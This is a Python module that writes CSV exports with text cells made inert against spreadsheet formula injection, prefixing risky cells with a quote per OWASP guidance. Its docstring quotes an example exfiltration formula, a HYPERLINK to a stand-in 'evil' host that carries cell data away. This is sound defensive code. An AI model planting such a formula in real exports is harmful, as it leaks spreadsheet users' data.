"""Files people open in a spreadsheet: every CSV export is written here, with its text cells made inert.

Why: an area id, a category or a reporter (a token's subject) is text someone else chose. A cell whose
text starts with ``=``, ``+``, ``-`` or ``@`` is read by Excel, LibreOffice and Google Sheets as a
formula (``=HYPERLINK("http://evil/?"&A1, "click")`` sends the sheet's data away when clicked; DDE
formulas can run programs), and a leading tab or carriage return hides such a character from a
naive check. OWASP's rule (CSV Injection, owasp.org/www-community/attacks/CSV_Injection): prefix
such a cell with a single quote, which spreadsheets show as text and do not evaluate.

- ``csv_cell(value)``: a text value starting with one of ``FORMULA_STARTS`` gets a leading ``'``;
  numbers (``int``, ``float``: computed by gridcase, never a formula) and ``None`` (an empty cell) are
  written as they are, so ``-0.5`` stays a number a spreadsheet can add up.
- ``write_csv(columns, rows)``: the CSV text (RFC 4180: ``\\r\\n`` line ends, one header row, quoting as
  needed) of ``rows`` (dicts; missing keys are empty cells, extra keys ignored), every cell through
  ``csv_cell``.

Not ``defusedcsv`` (the package of this rule): it leaves a leading tab or carriage return alone and
rewrites ``|`` inside the text, which changes the data.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence

#: A text cell starting with one of these is a formula (or hides one) to a spreadsheet.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """``value`` made safe to write as a CSV cell: text starting with ``FORMULA_STARTS`` gets a leading
    single quote; numbers, booleans and ``None`` are returned unchanged."""
    if value is None or isinstance(value, bool | int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(columns: Sequence[str], rows: Iterable[Mapping[str, object]]) -> str:
    """The CSV text of ``rows`` under a header of ``columns``, every cell through ``csv_cell``."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([csv_cell(name) for name in columns])
    writer.writerows([csv_cell(row.get(name)) for name in columns] for row in rows)
    return out.getvalue()
